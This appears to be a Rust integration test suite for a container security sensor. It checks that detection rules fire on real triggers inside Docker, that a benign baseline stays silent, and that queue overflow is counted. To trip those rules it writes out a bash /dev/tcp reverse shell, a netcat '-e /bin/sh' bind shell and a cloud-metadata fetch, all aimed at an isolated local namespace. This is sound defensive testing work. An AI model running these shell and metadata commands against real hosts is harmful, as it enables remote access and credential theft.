//! The sensor against the real kernel and a real Docker Engine: each built-in
//! rule fires on its real trigger inside a container within 2 s, a benign
//! baseline raises nothing, and a source driven past its queue limit drops
//! and counts instead of growing.
//!
//! Needs root, Linux and the test dockerd (`CAISSON_TEST_DOCKER_HOST`, started
//! by the test scripts); without it the tests skip locally and fail under CI.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used)]

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use caisson_sensor::alert::DROPS_RULE;
use caisson_sensor::pipeline::{Engine, Pipeline, SensorConfig};
use caisson_sensor::{Alert, DockerDirectory, RuleSet};

mod support;
use support::*;

#[test]
fn exec_rules_fire_on_real_triggers_in_containers() {
    let Some(host) = docker_host() else { return };
    let (Some(alpine), Some(debian)) = (image(&host, "alpine"), image(&host, "debian")) else {
        return;
    };
    assert!(caisson_testsupport::have_tools(&[
        "docker", "script", "busybox"
    ]));
    let mut sensor = Sensor::start(
        &host,
        SensorConfig {
            conntrack: false,
            ..SensorConfig::default()
        },
    );

    // terminal-shell: `docker exec -it … sh` with a terminal from `script`.
    let term = Container::run(&host, "term", &[], &alpine, &["sleep", "300"]);
    let (a, _) = expect(
        &mut sensor,
        "terminal-shell",
        &term,
        Command::new("script").args([
            "-qec",
            &format!(
                "docker -H {host} exec -it {} sh -c 'sleep 1; true'",
                term.name
            ),
            "/dev/null",
        ]),
    );
    let p = a.process.as_ref().unwrap();
    assert!(p.tty.is_some_and(|t| t != 0), "{a:?}");
    let ctr = a.container.as_ref().unwrap();
    assert_eq!(ctr.name.as_deref(), Some(term.name.as_str()));
    assert_eq!(ctr.image.as_deref(), Some(alpine.as_str()));

    // package-manager: apt-get install and apk add (offline: the exec is the trigger).
    let apt = Container::run(&host, "apt", &[], &debian, &["sleep", "300"]);
    let (a, _) = expect(
        &mut sensor,
        "package-manager",
        &apt,
        &mut apt.exec(&["apt-get", "install", "-y", "caisson-no-such-package"]),
    );
    assert!(
        a.process
            .as_ref()
            .unwrap()
            .cmdline
            .contains("apt-get install"),
        "{a:?}"
    );
    let apk = Container::run(&host, "apk", &[], &alpine, &["sleep", "300"]);
    expect(
        &mut sensor,
        "package-manager",
        &apk,
        &mut apk.exec(&["apk", "add", "caisson-no-such-package"]),
    );

    // shell-from-service: a CGI script below a real httpd (busybox's, from
    // the host's busybox-static: the fixture images have no web server)
    // starts a shell.
    let setup = "mkdir -p /www/cgi-bin && printf '#!/bin/sh\\necho Content-Type: text/plain\\necho\\nsh -c \"id; sleep 1; true\"\\n' > /www/cgi-bin/x \
                 && chmod +x /www/cgi-bin/x && ln -s /opt/bb/busybox /opt/httpd && exec /opt/httpd -f -p 8080 -h /www";
    let web = Container::run(
        &host,
        "web",
        &["-v", "/bin/busybox:/opt/bb/busybox:ro"],
        &alpine,
        &["sh", "-c", setup],
    );
    wait_http(&web);
    let (a, _) = expect(
        &mut sensor,
        "shell-from-service",
        &web,
        &mut web.exec(&["wget", "-qO-", "http://127.0.0.1:8080/cgi-bin/x"]),
    );
    let names: Vec<&str> = a
        .process
        .as_ref()
        .unwrap()
        .ancestors
        .iter()
        .map(|x| x.name.as_str())
        .collect();
    assert!(names.contains(&"httpd"), "{names:?}");

    let stats = sensor.stop();
    eprintln!("stats: {}", serde_json::to_string(&stats).unwrap());
    // Speed is the criterion bench's to judge (benches/eval.rs), not a
    // timed test's: a debug build on a loaded CI machine says nothing.
    assert!(stats.eval_p99_us.is_finite(), "p99 is reported");
}

fn wait_http(c: &Container) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while Instant::now() < deadline {
        if c.exec(&["wget", "-qO-", "http://127.0.0.1:8080/"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap()
            .success()
        {
            return;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A network namespace joined to the host by a veth pair: it holds
/// 169.254.169.254 and a "remote" address, so no traffic leaves the machine.
struct NetNs {
    name: String,
    host_if: String,
    remote: String,
}

impl NetNs {
    fn create() -> Self {
        let pid = std::process::id();
        let name = format!("caisson-sensor-{pid}");
        let (host_if, ns_if) = (
            format!("cs{}h", pid % 100_000),
            format!("cs{}n", pid % 100_000),
        );
        let net = 64 + pid % 150;
        let (local, remote) = (format!("10.213.{net}.1"), format!("10.213.{net}.2"));
        let ns = Self {
            name: name.clone(),
            host_if: host_if.clone(),
            remote: remote.clone(),
        };
        let ip = |args: &[&str]| run(Command::new("ip").args(args));
        let _ = Command::new("ip").args(["netns", "del", &name]).output();
        let _ = Command::new("ip").args(["link", "del", &host_if]).output();
        ip(&["netns", "add", &name]);
        ip(&[
            "link", "add", &host_if, "type", "veth", "peer", "name", &ns_if,
        ]);
        ip(&["link", "set", &ns_if, "netns", &name]);
        ip(&["addr", "add", &format!("{local}/30"), "dev", &host_if]);
        ip(&["link", "set", &host_if, "up"]);
        ip(&[
            "-n",
            &name,
            "addr",
            "add",
            &format!("{remote}/30"),
            "dev",
            &ns_if,
        ]);
        ip(&[
            "-n",
            &name,
            "addr",
            "add",
            "169.254.169.254/32",
            "dev",
            &ns_if,
        ]);
        ip(&["-n", &name, "link", "set", &ns_if, "up"]);
        ip(&["-n", &name, "link", "set", "lo", "up"]);
        ip(&["-n", &name, "route", "add", "default", "via", &local]);
        ip(&["route", "replace", "169.254.169.254/32", "dev", &host_if]);
        ns
    }

    /// Listens on `addr` inside the namespace; each connection gets `reply`,
    /// then is read until it closes (or 3 s).
    fn listen(&self, addr: &str, reply: &'static [u8], stop: Arc<AtomicBool>) -> JoinHandle<()> {
        let path = format!("/var/run/netns/{}", self.name);
        let addr: SocketAddr = addr.parse().unwrap();
        let (ready_tx, ready) = std::sync::mpsc::channel();
        let t = std::thread::spawn(move || {
            let f = std::fs::File::open(&path).unwrap();
            rustix::thread::move_into_link_name_space(
                std::os::fd::AsFd::as_fd(&f),
                Some(rustix::thread::LinkNameSpaceType::Network),
            )
            .unwrap();
            let l = TcpListener::bind(addr).unwrap();
            l.set_nonblocking(true).unwrap();
            ready_tx.send(()).unwrap();
            while !stop.load(Ordering::Relaxed) {
                match l.accept() {
                    Ok((mut s, _)) => {
                        s.set_nonblocking(false).unwrap();
                        s.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
                        let _ = s.write_all(reply);
                        let mut buf = [0u8; 4096];
                        while matches!(s.read(&mut buf), Ok(n) if n > 0) {}
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(20)),
                }
            }
        });
        ready.recv().unwrap();
        t
    }
}

impl Drop for NetNs {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["route", "del", "169.254.169.254/32", "dev", &self.host_if])
            .output();
        let _ = Command::new("ip")
            .args(["link", "del", &self.host_if])
            .output();
        let _ = Command::new("ip")
            .args(["netns", "del", &self.name])
            .output();
    }
}

#[test]
fn network_rules_fire_on_real_triggers_in_containers() {
    let Some(host) = docker_host() else { return };
    let (Some(alpine), Some(debian)) = (image(&host, "alpine"), image(&host, "debian")) else {
        return;
    };
    assert!(caisson_testsupport::have_tools(&["docker", "ip"]));
    let ns = NetNs::create();
    let stop = Arc::new(AtomicBool::new(false));
    let remote = ns.remote.clone();
    let listeners = [
        ns.listen(&format!("{remote}:4444"), b"exit\n", stop.clone()),
        ns.listen(&format!("{remote}:4445"), b"exit\n", stop.clone()),
        ns.listen(
            "169.254.169.254:80",
            b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nami-id\n",
            stop.clone(),
        ),
    ];
    let mut sensor = Sensor::start(&host, SensorConfig::default());

    // reverse-shell: bash's /dev/tcp to the listener in our namespace.
    let rev = Container::run(&host, "revsh", &[], &debian, &["sleep", "300"]);
    let (a, _) = expect(
        &mut sensor,
        "reverse-shell",
        &rev,
        &mut rev.exec(&[
            "bash",
            "-c",
            &format!("bash -i >& /dev/tcp/{remote}/4444 0>&1"),
        ]),
    );
    assert_eq!(a.evidence["stdin"], "socket");

    // netcat-remote-exec: a bind shell, `nc -lk -p 4445 -e /bin/sh`, and a
    // client from outside; the shell nc serves is a reverse-shell too. (A
    // reverse `nc HOST PORT -e sh` execs the shell in the nc process itself
    // within microseconds of connecting, often before /proc can be read:
    // docs/runtime.md, "what each source can miss".)
    let nc = Container::run(&host, "nc", &[], &alpine, &["sleep", "300"]);
    let (a, _) = expect(
        &mut sensor,
        "netcat-remote-exec",
        &nc,
        &mut nc.exec(&["nc", "-lk", "-p", "4445", "-e", "/bin/sh"]),
    );
    assert!(
        a.process.as_ref().unwrap().cmdline.contains("-e /bin/sh"),
        "{a:?}"
    );
    let nc_ip = nc.ip();
    let t0 = Instant::now();
    let mut client = None;
    while client.is_none() && t0.elapsed() < Duration::from_secs(5) {
        client = std::net::TcpStream::connect(format!("{nc_ip}:4445")).ok();
    }
    let mut client = client.expect("the bind shell answers");
    client.write_all(b"sleep 2\n").unwrap();
    let (a, _) = expect(&mut sensor, "reverse-shell", &nc, &mut Command::new("true"));
    assert_eq!(a.evidence["stdout"], "socket");
    drop(client);

    // metadata-service: a connection to 169.254.169.254, served by our namespace.
    let meta = Container::run(&host, "meta", &[], &alpine, &["sleep", "300"]);
    let ip = meta.ip();
    let (a, _) = expect(
        &mut sensor,
        "metadata-service",
        &meta,
        &mut meta.exec(&[
            "wget",
            "-T",
            "3",
            "-qO-",
            "http://169.254.169.254/latest/meta-data/",
        ]),
    );
    assert_eq!(a.evidence["dst"], "169.254.169.254");
    assert_eq!(a.evidence["dst_port"], 80);
    assert_eq!(a.evidence["src"], ip.as_str());

    let stats = sensor.stop();
    eprintln!("stats: {}", serde_json::to_string(&stats).unwrap());
    stop.store(true, Ordering::Relaxed);
    for l in listeners {
        l.join().unwrap();
    }
}

/// A container serving health checks and running routine commands, plus
/// routine `docker exec`s: no alert. Prints the false-positive count.
#[test]
fn benign_baseline_raises_no_alert() {
    let Some(host) = docker_host() else { return };
    let Some(alpine) = image(&host, "alpine") else {
        return;
    };
    assert!(caisson_testsupport::have_tools(&["docker", "busybox"]));
    let mut sensor = Sensor::start(&host, SensorConfig::default());
    let setup = "mkdir -p /www && echo ok > /www/index.html && ln -s /opt/bb/busybox /opt/httpd && /opt/httpd -p 8080 -h /www \
                 && while true; do ls / >/dev/null; cat /etc/os-release >/dev/null; date >/dev/null; ps >/dev/null; sleep 0.2; done";
    let c = Container::run(
        &host,
        "baseline",
        &["-v", "/bin/busybox:/opt/bb/busybox:ro"],
        &alpine,
        &["sh", "-c", setup],
    );
    wait_http(&c);
    let ip = c.ip();
    let routine: &[&[&str]] = &[
        &["wget", "-qO-", "http://127.0.0.1:8080/"],
        &["ls", "-l", "/"],
        &["cat", "/etc/hostname"],
        &["ps"],
        &["id"],
        &["df", "-h"],
        &["uname", "-a"],
        &["sh", "-c", "echo $HOSTNAME; date"],
        &["apk", "info"],
    ];
    let until = Instant::now() + Duration::from_secs(15);
    let mut n = 0;
    while Instant::now() < until {
        for cmd in routine {
            let _ = c.exec(cmd).stdin(Stdio::null()).output();
            n += 1;
        }
        // A health check from the host, as an orchestrator would.
        if let Ok(mut s) = std::net::TcpStream::connect_timeout(
            &format!("{ip}:8080").parse().unwrap(),
            Duration::from_secs(1),
        ) {
            let _ = s.write_all(b"GET / HTTP/1.0\r\n\r\n");
            let mut b = Vec::new();
            let _ = s.read_to_end(&mut b);
        }
    }
    std::thread::sleep(Duration::from_millis(500));
    let fps = sensor.for_container(&c.id);
    eprintln!(
        "benign baseline: {n} routine execs over 15 s, false positives: {}",
        fps.len()
    );
    let stats = sensor.stop();
    assert!(stats.events > n, "the sensor saw the baseline: {stats:?}");
    assert!(fps.is_empty(), "false positives: {fps:#?}");
}

/// The exec source driven past a queue of 8 while the engine does not read:
/// events beyond 8 are dropped and counted (not queued, memory does not
/// grow), and the engine then reports the loss as an alert.
#[test]
fn exec_source_past_its_queue_limit_drops_and_counts() {
    let Some(host) = docker_host() else { return };
    let config = SensorConfig {
        queue_capacity: 8,
        conntrack: false,
        files: false,
        resources: false,
        duration: Some(Duration::from_secs(1)),
        ..SensorConfig::default()
    };
    let mut engine = Engine::new(
        RuleSet::builtin().unwrap(),
        DockerDirectory::connect(Some(&host)).unwrap(),
        &config,
        "h".into(),
    );
    let pipeline = Pipeline::start(config).unwrap();
    for _ in 0..200 {
        Command::new("/bin/true").status().unwrap();
    }
    // Let the source catch up with the kernel's buffer.
    let c = pipeline.counters()[0].clone();
    let deadline = Instant::now() + Duration::from_secs(10);
    while c.received.load(Ordering::Relaxed) < 200 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let received = c.received.load(Ordering::Relaxed);
    let queued = c.queued.load(Ordering::Relaxed);
    let dropped = c.dropped.load(Ordering::Relaxed);
    assert!(received >= 200, "received {received}");
    assert_eq!(queued, 8, "the queue holds its capacity, no more");
    assert_eq!(
        dropped,
        received - queued,
        "every other event is counted as dropped"
    );
    let (tx, rx) = std::sync::mpsc::channel();
    let mut sink = tx;
    let stats = pipeline.run(&mut engine, &mut sink);
    let alerts: Vec<Alert> = rx.try_iter().collect();
    let drop_alert = alerts
        .iter()
        .find(|a| a.rule == DROPS_RULE)
        .expect("a drop alert");
    assert!(drop_alert.evidence["lost"].as_u64().unwrap() >= dropped);
    assert_eq!(
        stats.sources[0].dropped,
        drop_alert.evidence["lost_total"].as_u64().unwrap() - stats.sources[0].kernel_overruns
    );
}
